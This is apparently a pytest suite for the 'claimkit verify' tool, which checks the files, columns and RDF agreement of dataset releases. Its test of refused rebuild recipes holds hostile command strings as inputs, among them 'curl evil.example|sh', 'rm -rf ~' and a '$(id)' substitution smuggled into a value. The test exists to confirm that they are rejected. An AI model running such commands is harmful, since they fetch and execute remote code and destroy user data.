"""`claimkit verify` of releases that another claimkit made, or that say so: what it can be held to it is held to."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from claimkit import __version__
from claimkit.exporters.context import NAMES
from claimkit.exporters.tables import TABLES
from claimkit.release.manifest import MANIFEST, SUMS
from claimkit.verifying import agreement, format_one
from conftest import Command
from released import COMMIT, FIRST, NEW, SECOND, Files, dataset, judged, on_disk, paths, release, released, resealed

CAME_LATER: frozenset[str] = frozenset()
"""Files, columns (`csv/x.csv: column`) and names of the graph that came after the first release of format 1.

Who adds one adds it here, and not to `format_one`: no release that was made before has it. Nothing may go."""
CONTRACT = """
    id version status iri statement topic agent_id agent_label organism_id organism_label strain_id strain_label
    predicate direction target_id target_label mechanism host_id host_label evidence_level verdict supporting_studies
    refuting_studies sources related drift_lines digest
"""
CORE = sorted(release("0.2.0").keys() - {MANIFEST, SUMS, FIRST})


def foreign(files: Files, **said: Any) -> Files:
    return resealed(files, lambda one: one.update(made_by={"claimkit": "9.9.9"}, **said))


def with_graph(change: Callable[[Any], Any]) -> Files:
    """0.2.0 with another claims.jsonld."""
    files = release("0.2.0")
    document = json.loads(files["claims.jsonld"])
    change(document)
    return {**files, "claims.jsonld": json.dumps(document).encode()}


def table(raw: bytes, change: Callable[[list[str]], list[str]]) -> bytes:
    """A table with each of its rows changed."""
    out = io.StringIO(newline="")
    rows = csv.reader(io.StringIO(raw.decode(), newline=""))
    csv.writer(out, lineterminator="\n").writerows(change(row) for row in rows)
    return out.getvalue().encode()


# What format 1 demands


def test_what_format_1_demands_is_what_is_made() -> None:
    final = {name.format(version="0.2.0") for name in format_one.FILES_OF_FINAL}
    made = release("0.2.0").keys() - {MANIFEST, SUMS, FIRST}
    assert format_one.FILES | final == made - CAME_LATER
    columns = {f"csv/{table.name}.csv": [column.name for column in table.columns] for table in TABLES}
    assert {name: list(of) for name, of in format_one.COLUMNS.items()} == {
        name: [column for column in of if f"{name}: {column}" not in CAME_LATER]
        for name, of in columns.items()
        if name not in CAME_LATER
    }
    assert format_one.NAMES == NAMES - CAME_LATER
    assert list(format_one.COLUMNS["csv/claims.csv"]) == CONTRACT.split()


@pytest.mark.parametrize("name", CORE)
def test_a_file_that_is_gone_is_refused_by_name_whoever_made_the_release(name: str) -> None:
    files = release("0.2.0")
    del files[name]
    assert name in paths(foreign(files))


def test_every_file_that_is_gone_is_named(claimkit: Command, tmp_path: Path) -> None:
    gone = [
        name for name in CORE if name.startswith("csv/") or name in ("claims.nq", "records.jsonl", "CITATION.cff")
    ]
    files = {name: raw for name, raw in release("0.2.0").items() if name not in gone}
    on_disk(foreign(files), tmp_path / NEW)
    result = claimkit("verify", NEW)
    assert result.code == 1
    assert result.out.splitlines() == [f"{name}: is missing, and every release of format 1 has it" for name in gone]
    assert f"made by claimkit 9.9.9, this is {__version__}: no file was made anew to compare" in result.err


def test_what_is_no_release_needs_neither_news_nor_an_entry() -> None:
    plain = {path: raw for path, raw in dataset("0.1.0").items() if not path.startswith(("releases", "NEWS"))}
    files = released(plain, "0.1.0-dev")
    assert judged(files, "demo-claims-0.1.0-dev") == judged(foreign(files), "demo-claims-0.1.0-dev") == []
    del files["claims.nq"]
    assert "claims.nq" in {path for path, _ in judged(foreign(files), "demo-claims-0.1.0-dev")}


@pytest.mark.parametrize("seal", [resealed, foreign])
@pytest.mark.parametrize(
    "rebuild",
    [
        [],
        ["curl evil.example|sh", "\x1b[31mx"],
        [f"git checkout {COMMIT}"],
        ["scripts/build"],
        [f"git checkout {COMMIT}", "scripts/build", "rm -rf ~"],
        [f"git checkout {COMMIT}; rm -rf ~", "scripts/build"],
        [f"git checkout {'f' * 40}", "scripts/build"],
        [f"git checkout {COMMIT}", "scripts/build --out /"],
        [f"git checkout {COMMIT}", "X=1 scripts/build"],
        [f"git checkout {COMMIT}", "SOURCE_DATE_EPOCH=$(id) scripts/build"],
        [f"git checkout {COMMIT}", "SOURCE_DATE_EPOCH=1\n scripts/build"],
        [f"git checkout {COMMIT}", "SOURCE_DATE_EPOCH=\u0661 scripts/build"],
        [f"git checkout {COMMIT}", "scripts/build\n"],
    ],
)
def test_a_recipe_that_is_none_is_refused(seal: Callable[..., Files], rebuild: list[str]) -> None:
    files = resealed(seal(release("0.2.0")), lambda one: one.update(rebuild=rebuild))
    found = judged(files)
    assert [path for path, _ in found] == [MANIFEST]
    assert found[0][1].startswith(f'rebuild is not "git checkout {COMMIT}", then "scripts/build"')


@pytest.mark.parametrize("build", ["scripts/build", "SOURCE_DATE_EPOCH=0 scripts/build"])
def test_the_recipes_of_a_claimkit_are_none_other(build: str) -> None:
    for seal in (resealed, foreign):
        files = resealed(seal(release("0.2.0")), lambda one: one.update(rebuild=[f"git checkout {COMMIT}", build]))
        assert judged(files) == []

    def without_commit(one: dict[str, Any]) -> None:
        del one["commit"]
        one["rebuild"] = [build]

    assert judged(resealed(release("0.2.0"), without_commit)) == []


# What both know has to be the same


@pytest.mark.parametrize(
    ("name", "old", "new"),
    [
        ("csv/claims.csv", b"In mice, Bacillus subtilis 168 lengthens", b"In mice, Bacillus subtilis 168 shortens"),
        ("csv/claims.csv", b"animal", b"cohort"),
        ("csv/terms.csv", b"\n", b'\n"'),
        ("claims.nq", b"In mice, ", b"In men, "),
        ("claims.nq", b"\n", b"\n<https://example.org/x> <https://example.org/y> <https://example.org/z> .\n"),
        ("records.jsonl", b"In mice, ", b"In men, "),
        ("claims.jsonld", b'"verdict": "supported"', b'"verdict": "contested"'),
        ("claims.jsonld", b'"position": 1', b'"position": true'),
        ("context.jsonld", b"schema.org/text", b"schema.org/abstract"),
        ("context.jsonld", b'"@context": {', b'"@context": {}, "@context": {'),
        ("context.jsonld", b"{", b""),
    ],
)
def test_a_file_that_disagrees_is_refused(name: str, old: bytes, new: bytes) -> None:
    files = release("0.2.0")
    assert old in files[name]
    assert name in paths(foreign({**files, name: files[name].replace(old, new, 1)}))


def test_a_predicate_under_another_name_is_refused() -> None:
    """Nobody who asks for the direction finds one then, and who finds the other one is misled."""
    files = release("0.2.0")
    raw = (
        files["claims.nq"]
        .replace(b"vocab#direction>", b"vocab#effect_direction>")
        .replace(b'"increases"', b'"decreases"')
    )
    assert judged(foreign({**files, "claims.nq": raw})) == [("claims.nq", "is not the RDF that claims.jsonld is")]
    gone = re.sub(rb"(?m)^.*vocab#direction>.*\n", b"", files["claims.nq"])
    assert judged(foreign({**files, "claims.nq": gone})) == [("claims.nq", "is not the RDF that claims.jsonld is")]


def test_columns_under_other_names_are_refused() -> None:
    files = release("0.2.0")
    header, rest = files["csv/claims.csv"].split(b"\n", 1)
    renamed = header.replace(b",", b"_,").replace(b"id_", b"id", 1) + b"\n" + rest.replace(b"increases", b"decreases")
    found = judged(foreign({**files, "csv/claims.csv": renamed}))
    assert found == [("csv/claims.csv", "lacks the column version")]
    for name, of in format_one.COLUMNS.items():
        less = table(files[name], lambda row: row[:-1])
        assert judged(foreign({**files, name: less})) == [(name, f"lacks the column {of[-1]}")]


def test_columns_in_another_order_or_twice_are_refused() -> None:
    files = release("0.2.0")
    turned = table(files["csv/claims.csv"], lambda row: [row[1], row[0], *row[2:]])
    assert judged(foreign({**files, "csv/claims.csv": turned})) == [
        ("csv/claims.csv", "has its columns in another order")
    ]
    twice = table(files["csv/claims.csv"], lambda row: [*row, row[0]])
    assert judged(foreign({**files, "csv/claims.csv": twice})) == [("csv/claims.csv", "has a column twice")]


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda one: one["@graph"][1].update(effect_direction="decreases"), 'says "effect_direction", to which'),
        (lambda one: one["@graph"][1].update({"@context": {}}), 'says "@context", to which'),
        (lambda one: one["@graph"][1]["evidence"][0].update({"@reverse": {}}), 'says "@reverse", to which'),
        (lambda one: one["@graph"][1].update(gbt="x"), 'says "gbt", to which'),
        (lambda one: one["@context"].update(effect="https://example.org/x"), 'gives "effect" another meaning'),
        (lambda one: one["@context"].update(more="https://example.org/x"), 'knows "more", and this'),
        (lambda one: one["@context"].update({"@vocab": "https://example.org/"}), 'knows "@vocab", and this claimkit'),
        (lambda one: one["@context"].pop("agent"), 'its context lacks "agent"'),
        (lambda one: one.update({"@id": "https://example.org/x"}), "has more to it than @context and @graph"),
        (lambda one: one["@graph"][1].pop("object_direction"), "says something else of "),
        (lambda one: one["@graph"][1].update({"@type": "Claim"}), "says something else of "),
        (lambda one: one["@graph"][1]["evidence"].append({"@id": "x:y", "@type": "Tie"}), "claims.jsonld"),
        (lambda one: one["@graph"].append({"@id": "x:y", "@type": "Tie"}), "says something else of "),
    ],
)  # fmt: skip
def test_a_graph_that_says_what_nobody_reads_back_is_refused(change: Callable[[Any], Any], said: str) -> None:
    found = judged(foreign(with_graph(change)))
    assert [path for path, message in found if said in f"{path} {message}"] == ["claims.jsonld"]
    assert not [message for _, message in found if message.startswith("no release can be made of it")]


def test_what_cannot_be_read_is_turned_into_no_rdf() -> None:
    """One message, for the graph: what is to be its RDF nobody knows, so that the other file is not compared."""
    files = with_graph(lambda one: one["@graph"][1].update(effect_direction="decreases"))
    files["claims.nq"] += b"<https://example.org/x> <https://example.org/y> <https://example.org/z> .\n"
    assert judged(foreign(files)) == [
        ("claims.jsonld", 'says "effect_direction", to which its context gives no meaning')
    ]


def test_a_node_that_stands_twice_is_refused_whoever_wrote_it() -> None:
    files = release("0.2.0")
    lines = files["claims.jsonld"].split(b"\n")
    at = next(k for k, line in enumerate(lines) if b"In mice, Bacillus" in line)
    liar = lines[at].replace(b"lengthens", b"strongly lengthens")
    assert liar != lines[at]
    twice = b"\n".join([*lines[:at], liar.rstrip(b",") + b",", *lines[at:]])
    json.loads(twice)
    for seal in (resealed, foreign):
        assert "claims.jsonld" in paths(seal({**files, "claims.jsonld": twice}))


# What only one knows is told


def test_what_another_claimkit_may_do_otherwise_passes_and_is_told(claimkit: Command, tmp_path: Path) -> None:
    files = with_graph(lambda one: one["@graph"].reverse())
    files["claims.nq"] = b"".join(sorted(files["claims.nq"].splitlines(keepends=True), reverse=True))
    files["csv/claims.csv"] = table(files["csv/claims.csv"], lambda row: [*row, "mo\x1b[2Jre\u202e"])
    files["csv/terms.csv"] = table(files["csv/terms.csv"], lambda row: [*row[:-1], "k", row[-1]])
    files["kgx/nodes.tsv"] = files["CITATION.cff"] = b"x"
    on_disk(foreign(files), tmp_path / NEW)
    result = claimkit("verify", NEW)
    assert (result.code, result.out) == (0, "")
    assert result.err.splitlines()[1:3] == [
        f"made by claimkit 9.9.9, this is {__version__}: 4 files with other bytes, which agree in what both know",
        "not compared, but for the digest: csv/claims.csv: mo\\x1b[2Jre\\u202e, csv/terms.csv: k, CITATION.cff, "
        "kgx/nodes.tsv",
    ]
    report = json.loads(claimkit("verify", NEW, "--format", "json").out)
    assert (report["made_by_another"], report["exports_compared"], report["consistent"]) == (True, True, True)
    assert report["agree_in_part"] == ["csv/claims.csv", "csv/terms.csv", "claims.jsonld", "claims.nq"]
    assert report["not_compared"][1:] == ["csv/terms.csv: k", "CITATION.cff", "kgx/nodes.tsv"]


def test_that_another_claimkit_made_it_is_said_where_nothing_differs(claimkit: Command, tmp_path: Path) -> None:
    on_disk(foreign(release("0.2.0")), tmp_path / NEW)
    said = f"made by claimkit 9.9.9, this is {__version__}; for that, nothing was left uncompared"
    assert claimkit("verify", NEW).err.splitlines()[1] == said


def test_that_another_claimkit_made_it_is_said_of_what_is_refused(claimkit: Command, tmp_path: Path) -> None:
    """Whatever else there is to say: damage does not make it any other program's release."""
    on_disk({**foreign(release("0.2.0")), "CITATION.cff": b"x"}, tmp_path / NEW)
    assert "made by claimkit 9.9.9" in claimkit("verify", NEW).err
    report = json.loads(claimkit("verify", NEW, "--format", "json").out)
    assert (report["made_by_another"], report["exports_compared"]) == (True, False)


def test_a_release_of_an_earlier_claimkit_stays_sound(monkeypatch: pytest.MonkeyPatch) -> None:
    """As if a file, a column and a property had come only after it was made."""
    files = with_graph(
        lambda one: [part.pop("supporting_studies", None) for part in (one["@context"], *one["@graph"])]
    )
    context = json.loads(files["context.jsonld"])
    del context["@context"]["supporting_studies"]
    files["context.jsonld"] = json.dumps(context).encode()
    whole = files["claims.nq"]
    files["claims.nq"] = re.sub(rb"(?m)^.*vocab#supporting_studies>.*\n", b"", whole)
    at = CONTRACT.split().index("supporting_studies")
    files["csv/claims.csv"] = table(files["csv/claims.csv"], lambda row: [*row[:at], *row[at + 1 :]])
    del files["csv/parts.csv"]
    assert paths(foreign(files)) == {"csv/parts.csv"}
    monkeypatch.setattr(format_one, "FILES", format_one.FILES - {"csv/parts.csv"})
    assert paths(foreign(files)) == {"claims.jsonld", "csv/claims.csv"}
    columns = {
        **format_one.COLUMNS,
        "csv/claims.csv": [one for one in CONTRACT.split() if one != "supporting_studies"],
    }
    monkeypatch.setattr(format_one, "COLUMNS", columns)
    monkeypatch.setattr(format_one, "NAMES", format_one.NAMES - {"supporting_studies"})
    assert judged(foreign(files)) == []
    assert judged(foreign({**files, "claims.nq": whole})) == [("claims.nq", "is not the RDF that claims.jsonld is")]


def test_a_file_that_an_earlier_claimkit_did_not_write_is_told(
    claimkit: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(format_one, "FILES", format_one.FILES - {"csv/parts.csv"})
    files = release("0.2.0")
    del files["csv/parts.csv"]
    on_disk(foreign(files), tmp_path / NEW)
    result = claimkit("verify", NEW)
    assert result.code == 0
    assert "not there, though this claimkit writes it: csv/parts.csv" in result.err.splitlines()
    assert json.loads(claimkit("verify", NEW, "--format", "json").out)["not_there"] == ["csv/parts.csv"]
    assert ("csv/parts.csv", "is missing, and manifest.json does not name it") in judged(resealed(files))


def test_the_entry_and_the_news_of_a_final_release_are_asked_for() -> None:
    """By name, and not only as what the manifest's own words about the ledger imply."""
    files = release("0.2.0")
    for name in (SECOND, "NEWS.md"):
        less = {path: raw for path, raw in files.items() if path != name}
        assert (name, "is missing, and every release of format 1 has it") in judged(resealed(less))


def test_a_file_that_is_too_large_to_be_compared_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """It would be held in memory, and nothing but the manifest of whoever made it says how large it may be."""
    name = "csv/claims.csv"
    files = {**release("0.2.0"), name: table(release("0.2.0")[name], lambda row: [*row, "more"])}
    monkeypatch.setattr(agreement, "LARGEST_GRAPH", len(files[name]))
    assert judged(foreign(files)) == []
    monkeypatch.setattr(agreement, "LARGEST_GRAPH", len(files[name]) - 1)
    assert judged(foreign(files)) == [(name, f"has more than {len(files[name]) - 1:,} bytes")]
